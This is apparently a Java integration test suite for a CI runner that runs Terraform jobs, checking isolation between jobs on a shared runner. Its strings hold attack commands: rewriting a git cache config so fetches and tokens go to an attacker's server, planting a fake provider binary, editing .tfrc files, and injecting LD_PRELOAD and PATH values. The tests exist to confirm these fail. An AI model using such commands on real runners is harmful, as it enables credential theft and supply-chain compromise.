package dev.lambdarunner.e2e;

import dev.lambdarunner.testsupport.FakeJob;
import dev.lambdarunner.testsupport.FakeRepo;
import dev.lambdarunner.testsupport.JobSpec;
import dev.lambdarunner.testsupport.TrapServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.Map;

import static dev.lambdarunner.e2e.E2eRunner.JOB_WAIT;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Nothing one job's code leaves in the work directory is trusted by the next job on the same warm runner, and job
 * variables never set the names the runner owns: the packaged CLI, real Terraform, two queued jobs.
 */
class WorkDirTrustIT {

    @RegisterExtension
    static final E2eRunner e2e = new E2eRunner();

    private TrapServer trap;

    @BeforeEach
    void startTrap() {
        trap = TrapServer.start();
    }

    @AfterEach
    void stopTrap() {
        trap.close();
    }

    @Test
    void aRemotePlantedInAnotherProjectsGitCacheNeverGetsItsFetchOrToken() throws Exception {
        FakeRepo attacker = e2e.repo("evil/exec", "exec");
        FakeRepo victim = e2e.repo("infra/victim", "ok");
        String victimUrl = e2e.gitlab().url() + "/" + victim.fullPath() + ".git";
        String config = "$CI_BUILDS_DIR/../../git-cache/" + cacheKey(victimUrl) + ".git/config";
        FakeJob warm = e2e.enqueue(JobSpec.builder().repo(victim).script("terraform version").build());
        FakeJob plant = e2e.enqueue(exec(attacker, "printf '[remote \"" + victimUrl + "\"]\\n\\turl = "
                + trap.url() + "/stolen.git\\n[url \"" + trap.url() + "/\"]\\n\\tinsteadOf = " + e2e.gitlab().url()
                + "/\\n' >> " + config + " && echo planted"));
        FakeJob next = e2e.enqueue(JobSpec.builder().repo(victim)
                .script("terraform init -input=false", "terraform apply -auto-approve").build());

        e2e.runUntilFinished(env(), warm, plant, next);

        assertThat(plant.trace()).contains("planted");
        assertThat(next.awaitFinished(JOB_WAIT).status()).as(next.trace()).isEqualTo("success");
        assertThat(trap.hits()).as("requests the attacker's server got").isEmpty();
        assertThat(next.trace()).contains("Apply complete!", victim.sha().substring(0, 8))
                .doesNotContain("Git object cache not usable");
    }

    @Test
    void jobVariablesNeverSetRunnerOwnedNamesAndTheLogSaysWhichWereDropped() throws Exception {
        FakeRepo probe = e2e.repo("envprobe");
        Path work = e2e.work();
        Path library = Files.writeString(work.resolveSibling(work.getFileName() + "-evil.so"), "not a library");
        FakeJob job = e2e.enqueue(JobSpec.builder().repo(probe)
                .variable("LD_PRELOAD", library.toString())
                .variable("TF_CLI_CONFIG_FILE", "/tmp/planted.tfrc")
                .variable("PATH", "/planted/bin")
                .variable("JOB_VISIBLE", "yes-visible")
                .script("terraform init -input=false", "terraform apply -auto-approve").build());

        e2e.runUntilFinished(env(), job);

        String trace = job.trace();
        assertThat(job.awaitFinished(JOB_WAIT).status()).as(trace).isEqualTo("success");
        assertThat(trace).contains("JOB_VISIBLE=yes-visible",
                "WARNING: job variables not passed to Terraform, the runner owns these names: LD_PRELOAD",
                "TF_CLI_CONFIG_FILE (it is set by the runner)", "PATH (it is set by the runner)")
                .doesNotContain("LD_PRELOAD=", "TF_CLI_CONFIG_FILE=/tmp/planted.tfrc", "/planted/bin", library.toString());
    }

    @Test
    void aProviderPlantedInThePluginCacheAndAnEditedCliConfigDoNotReachTheNextJob() throws Exception {
        FakeRepo attacker = e2e.repo("evil/exec", "exec");
        FakeRepo mirrored = e2e.repo("mirrored");
        Path work = e2e.work();
        Path marker = work.resolveSibling(work.getFileName() + "-pwned");
        String planted = "$CI_BUILDS_DIR/../../plugin-cache/example.com/test/fake/1.0.0/linux_"
                + FakeProviderMirror.ARCH;
        FakeJob plant = e2e.enqueue(exec(attacker, "mkdir -p " + planted + " && printf '#!/bin/sh\\necho pwned > "
                + marker + "\\nexit 1\\n' > " + planted + "/terraform-provider-fake_v1.0.0 && chmod +x " + planted
                + "/terraform-provider-fake_v1.0.0 && for f in $CI_BUILDS_DIR/../../*.tfrc $CI_BUILDS_DIR/../*.tfrc;"
                + " do echo 'plugin_cache_may_break_dependency_lock_file = true' >> $$f; done; echo planted"));
        // the victim's pipeline asks for the fast path itself: the runner must still not take an unchecked provider
        FakeJob next = e2e.enqueue(JobSpec.builder().repo(mirrored)
                .variable("TF_PLUGIN_CACHE_MAY_BREAK_DEPENDENCY_LOCK_FILE", "true")
                .script("terraform init -input=false", "terraform plan").build());
        Map<String, String> env = env();
        Path mirror = FakeProviderMirror.writeTo(work.resolve("mirror"));
        env.put("RUNNER_TERRAFORM_PROVIDER_MIRROR_DIR", mirror.toString());

        e2e.runUntilFinished(env, plant, next);

        assertThat(plant.trace()).contains("planted");
        next.awaitFinished(JOB_WAIT);
        assertThat(marker).as(next.trace()).doesNotExist();
        assertThat(next.trace()).contains("Installed example.com/test/fake v1.0.0",
                "TF_PLUGIN_CACHE_MAY_BREAK_DEPENDENCY_LOCK_FILE (it would let Terraform use providers")
                .doesNotContain("from the shared cache directory");
    }

    private static JobSpec exec(FakeRepo repo, String command) {
        return JobSpec.builder().repo(repo).variable("TF_VAR_command", command)
                .script("terraform init -input=false", "terraform apply -auto-approve").build();
    }

    /** The cache key the runner uses: SHA-256 of the URL without credentials, first 16 bytes in hex. */
    private static String cacheKey(String cleanUrl) throws Exception {
        byte[] digest = MessageDigest.getInstance("SHA-256").digest(cleanUrl.getBytes(StandardCharsets.UTF_8));
        return HexFormat.of().formatHex(digest, 0, 16);
    }

    private Map<String, String> env() {
        Map<String, String> env = e2e.pollingEnv();
        env.put("RUNNER_SANDBOX_KILL_GRACE", "PT5S");
        env.put("RUNNER_SHUTDOWN_GRACE", "PT1S");
        return env;
    }
}
